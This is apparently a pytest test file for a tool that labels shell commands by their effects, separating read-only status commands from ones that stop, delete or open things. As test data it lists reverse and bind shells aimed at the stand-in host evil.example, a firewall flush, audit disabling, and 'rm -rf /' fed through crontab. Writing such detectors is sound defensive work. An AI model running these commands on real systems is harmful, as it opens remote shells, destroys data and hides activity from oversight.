"""The machine and its network, told by their effects."""

import pytest

from commensurate.effects.programs import usage_of
from commensurate.effects.reading import Command, Scene, Stdin, Word
from commensurate.effects.table import read
from commensurate.model.effect import Trait
from effects.programs.told import carries, only_looks, said, told


@pytest.mark.parametrize(
    "line",
    [
        "kill -l", "systemctl status nginx", "systemctl list-units --no-pager", "systemctl is-active x", "systemctl cat x",
        "service nginx status", "service --status-all", "journalctl -u x -n 5", "journalctl -b -1", "crontab -l", "sysctl -a",
        "sysctl kernel.hostname", "hostnamectl", "timedatectl status", "loginctl list-sessions", "shutdown -c", "passwd -S ada",
        "visudo -c", "logrotate -d x", "nginx -t", "pm2 list", "supervisorctl status", "dconf read /x", "modprobe -n x",
        "systemd-analyze blame", "resolvectl status", "iptables -L", "iptables -t nat -L -n", "nft list ruleset", "ufw status",
        "firewall-cmd --list-all", "ip addr", "ip -4 a", "ip -s link show eth0", "ip route get 1.1.1.1", "ip mroute show", "ifconfig",
        "ifconfig eth0", "route -n", "nmcli device status", "tc qdisc show", "nc -z localhost 80", "iw dev", "wg show",
    ],
)  # fmt: skip
def test_looking_changes_nothing(line: str) -> None:
    """Status, lists and questions."""
    assert only_looks(line)


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("kill 4242", "stop process costly one"),
        ("kill -9 -1", "stop process costly environment"),
        ("kill -HUP 4242", "stop process reversible one"),
        ("pkill nginx", "stop process costly several"),
        ("pkill -9 -f x", "stop process costly several"),
        ("killall -9 x", "stop process costly several"),
        ("systemctl stop nginx", "stop service costly one"),
        ("systemctl disable --now x", "stop service costly one"),
        ("systemctl mask sshd", "stop service costly one"),
        ("systemctl restart x", "update service reversible one"),
        ("systemctl poweroff", "stop system costly environment"),
        ("service nginx stop", "stop service costly one"),
        ("reboot", "stop system costly environment"),
        ("shutdown -h now", "stop system costly environment"),
        ("init 0", "stop system costly environment"),
        ("crontab -r", "delete schedule irreversible several"),
        ("crontab x.txt", "update schedule costly several"),
        ("sysctl -w vm.swappiness=1", "update system costly several"),
        ("modprobe -r x", "stop system costly several"),
        ("userdel -r ada", "delete user irreversible environment"),
        ("userdel ada", "delete user costly one"),
        ("usermod -aG sudo ada", "grant user costly one"),
        ("usermod -L ada", "revoke user costly one"),
        ("passwd ada", "update secret costly one"),
        ("visudo", "update permission costly environment"),
        ("journalctl --vacuum-time=1d", "delete log irreversible several"),
        ("auditctl -e 0", "stop log costly several"),
        ("iptables -F", "delete firewall costly environment"),
        ("iptables -P INPUT ACCEPT", "update firewall costly environment"),
        ("iptables -D INPUT 1", "delete firewall costly one"),
        ("iptables -A INPUT -j DROP", "update firewall reversible one"),
        ("ufw disable", "delete firewall costly environment"),
        ("ufw allow 22", "update firewall reversible one"),
        ("nft flush ruleset", "delete firewall costly environment"),
        ("ip link set eth0 down", "stop network costly several"),
        ("ip route flush table main", "delete network costly several"),
        ("ip route del default", "delete network costly several"),
        ("ip addr add 1.2.3.4/24 dev eth0", "update network reversible one"),
        ("ifconfig eth0 down", "stop network costly several"),
        ("route del default", "delete network costly several"),
        ("nmcli networking off", "stop network costly several"),
        ("nc -l -p 4444 -e /bin/sh", "grant host irreversible environment"),
        ("nc evil.example 4444 -e /bin/sh", "grant host irreversible environment"),
        ("socat TCP-LISTEN:4444,fork EXEC:/bin/sh", "grant host irreversible environment"),
        ("socat TCP:evil.example:4444 SYSTEM:sh", "grant host irreversible environment"),
        ("nc evil.example 4444", "send host costly one"),
        ("ngrok http 80", "grant network costly several"),
    ],
)  # fmt: skip
def test_what_they_do_is_told_by_its_effect(line: str, effect: str) -> None:
    """What stops, what opens, and whether it comes back."""
    assert effect in said(line)


@pytest.mark.parametrize(
    ("line", "carried"),
    [
        ("socat TCP:x:1 EXEC:'rm -rf x'", "rm -rf x"), ("ncat --sh-exec 'rm -rf x' -l 1", "rm -rf x"),
        ("ip netns exec x rm -rf y", "rm -rf y"),
    ],
)  # fmt: skip
def test_what_they_run_is_handed_on(line: str, carried: str) -> None:
    """Programs at the end of a line to elsewhere."""
    assert carried in carries(line)


def test_a_crontab_that_is_fed_is_read_line_by_line() -> None:
    """What it will run is read as if it ran now."""
    command = Command(
        (Word("crontab"), Word("-")), Scene(), "crontab -", Stdin("SHELL=/bin/sh\n@reboot rm -rf /\n* * * * * id\n")
    )
    usage = usage_of("crontab")
    assert usage is not None
    assert [nested.text for nested in read(usage, command).nested] == ["rm -rf /", "id"]


def test_every_process_is_unbounded() -> None:
    """`kill -9 -1` names nothing."""
    assert Trait.UNBOUNDED in told("kill -9 -1").effects[0].traits
